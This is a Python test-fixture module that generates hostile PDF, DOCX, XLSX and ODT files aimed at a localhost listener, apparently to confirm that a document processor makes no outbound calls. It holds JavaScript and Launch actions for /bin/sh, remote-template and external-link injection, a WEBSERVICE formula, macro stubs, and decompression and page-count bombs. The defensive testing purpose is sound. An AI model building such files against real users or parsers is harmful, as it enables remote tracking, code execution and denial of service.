"""Hostile documents made by the tests: each names a listener on 127.0.0.1 that must hear nothing."""

from __future__ import annotations

import io
import socket
import threading
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

VISIBLE_TEXT = "SEGURO 4711"


class Listener:
    """A TCP listener on a free local port; records every connection it accepts."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(16)
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.socket.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self.socket.close()


def _text_page(pdf: pikepdf.Pdf, text: str) -> pikepdf.Page:
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    page = pdf.add_blank_page(page_size=(612, 792))
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = pdf.make_stream(b"BT /F1 40 Tf 72 600 Td (" + text.encode() + b") Tj ET")
    return page


def text_pdf(text: str = VISIBLE_TEXT, pages: int = 1) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        _text_page(pdf, text)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def hostile_pdf(url: str) -> bytes:
    """JavaScript, OpenAction, AA, Launch, URI, embedded files, XFA and RichMedia, all at once."""
    pdf = pikepdf.new()
    page = _text_page(pdf, VISIBLE_TEXT)
    js = Dictionary(S=Name.JavaScript, JS=String(f"app.launchURL('{url}/js', true);"))
    pdf.Root.OpenAction = pdf.make_indirect(js)
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.URI, URI=String(f"{url}/aa")))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), pdf.make_indirect(js)])),
        EmbeddedFiles=Dictionary(
            Names=Array(
                [
                    String("payload.exe"),
                    Dictionary(
                        Type=Name.Filespec,
                        F=String("payload.exe"),
                        EF=Dictionary(F=pdf.make_stream(b"MZ evil")),
                    ),
                ]
            )
        ),
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array(), XFA=pdf.make_stream(f'<xdp><submit target="{url}/xfa"/></xdp>'.encode())
    )
    page.Annots = pdf.make_indirect(
        Array(
            [
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([0, 0, 612, 792]),
                    A=Dictionary(S=Name.URI, URI=String(f"{url}/uri")),
                ),
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([0, 0, 10, 10]),
                    A=Dictionary(S=Name.Launch, F=String("/bin/sh")),
                ),
                Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 5, 5])),
            ]
        )
    )
    page.obj.AA = Dictionary(O=pdf.make_indirect(js))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def font_bomb_pdf() -> bytes:
    """A page whose embedded font is a stream of 512 MiB of zeros, compressed to a few hundred KiB."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(612, 792))
    compressor = zlib.compressobj(9)
    chunk = b"\x00" * (1 << 20)
    body = b"".join(compressor.compress(chunk) for _ in range(512)) + compressor.flush()
    font_file = pdf.make_stream(body)
    font_file.Filter = Name.FlateDecode
    font_file.Length1 = 512 << 20
    descriptor = Dictionary(
        Type=Name.FontDescriptor,
        FontName=Name.Bomb,
        Flags=32,
        FontBBox=Array([0, 0, 1000, 1000]),
        ItalicAngle=0,
        Ascent=800,
        Descent=-200,
        CapHeight=700,
        StemV=80,
        FontFile2=font_file,
    )
    font = Dictionary(
        Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name.Bomb, FontDescriptor=descriptor
    )
    page.Resources = Dictionary(Font=Dictionary(F1=pdf.make_indirect(font)))
    page.Contents = pdf.make_stream(b"BT /F1 40 Tf 72 600 Td (BOOM) Tj ET")
    out = io.BytesIO()
    pdf.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def page_bomb_pdf(pages: int = 100_000) -> bytes:
    """A hundred thousand pages sharing one content stream: a few MB on disk."""
    pdf = pikepdf.new()
    content = pdf.make_stream(b"BT ET")
    kids = Array()
    for _ in range(pages):
        kids.append(
            pdf.make_indirect(
                Dictionary(Type=Name.Page, MediaBox=Array([0, 0, 612, 792]), Contents=content)
            )
        )
    tree = pdf.make_indirect(Dictionary(Type=Name.Pages, Kids=kids, Count=pages))
    for kid in kids:
        kid.Parent = tree
    pdf.Root.Pages = tree
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


# --- Office documents ---------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _zip(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def hostile_docx(url: str) -> bytes:
    """A macro-enabled document with a remote template and an external (linked) image."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
        "</Types>"
    )
    root_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_RELS}">'
        f'<Relationship Id="rId1" Type="{REL_TYPE}/officeDocument" Target="word/document.xml"/>'
        "</Relationships>"
    )
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}" xmlns:r="{R}" '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        f'<w:body><w:p><w:r><w:rPr><w:sz w:val="48"/></w:rPr><w:t>{VISIBLE_TEXT}</w:t></w:r></w:p>'
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/><wp:docPr id="1" name="p"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:link="rIdImg"/></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm>'
        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r></w:p>"
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "{url}/field.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        "</w:body></w:document>"
    )
    document_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_RELS}">'
        f'<Relationship Id="rIdImg" Type="{REL_TYPE}/image" Target="{url}/image.png" TargetMode="External"/>'
        f'<Relationship Id="rIdSet" Type="{REL_TYPE}/settings" Target="settings.xml"/>'
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
        "</Relationships>"
    )
    settings = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{W}" xmlns:r="{R}">'
        '<w:attachedTemplate r:id="rIdTpl"/></w:settings>'
    )
    settings_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_RELS}">'
        f'<Relationship Id="rIdTpl" Type="{REL_TYPE}/attachedTemplate" Target="{url}/template.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    return _zip(
        {
            "[Content_Types].xml": content_types,
            "_rels/.rels": root_rels,
            "word/document.xml": document,
            "word/_rels/document.xml.rels": document_rels,
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": settings_rels,
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen()" * 10,
        }
    )


def hostile_xlsx(url: str) -> bytes:
    """A macro-enabled workbook with a WEBSERVICE formula and an external image."""
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    content_types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        "</Types>"
    )
    root_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_RELS}">'
        f'<Relationship Id="rId1" Type="{REL_TYPE}/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>"
    )
    workbook = (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{ns}" xmlns:r="{R}">'
        '<sheets><sheet name="Hoja1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    workbook_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_RELS}">'
        f'<Relationship Id="rId1" Type="{REL_TYPE}/worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
        "</Relationships>"
    )
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{ns}" xmlns:r="{R}"><sheetData>'
        f'<row r="1"><c r="A1" t="inlineStr"><is><t>{VISIBLE_TEXT}</t></is></c></row>'
        f'<row r="2"><c r="A2" t="str"><f>WEBSERVICE("{url}/webservice")</f><v>x</v></c></row>'
        "</sheetData>"
        '<drawing r:id="rIdDraw"/></worksheet>'
    )
    sheet_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_RELS}">'
        f'<Relationship Id="rIdDraw" Type="{REL_TYPE}/image" Target="{url}/sheet.png" TargetMode="External"/>'
        "</Relationships>"
    )
    return _zip(
        {
            "[Content_Types].xml": content_types,
            "_rels/.rels": root_rels,
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": workbook_rels,
            "xl/worksheets/sheet1.xml": sheet,
            "xl/worksheets/_rels/sheet1.xml.rels": sheet_rels,
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub Workbook_Open()" * 10,
        }
    )


def hostile_odt(url: str) -> bytes:
    """An ODT whose image and section are linked from a remote server."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2">'
        "<office:body><office:text>"
        f"<text:p>{VISIBLE_TEXT}</text:p>"
        '<text:p><draw:frame svg:width="2cm" svg:height="2cm">'
        f'<draw:image xlink:href="{url}/linked.png" xlink:type="simple" xlink:show="embed" '
        'xlink:actuate="onLoad"/></draw:frame></text:p>'
        '<text:section text:name="remote">'
        f'<text:section-source xlink:href="{url}/section.odt" xlink:type="simple"/>'
        "</text:section>"
        "</office:text></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text"
        )  # stored, first
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
    return out.getvalue()
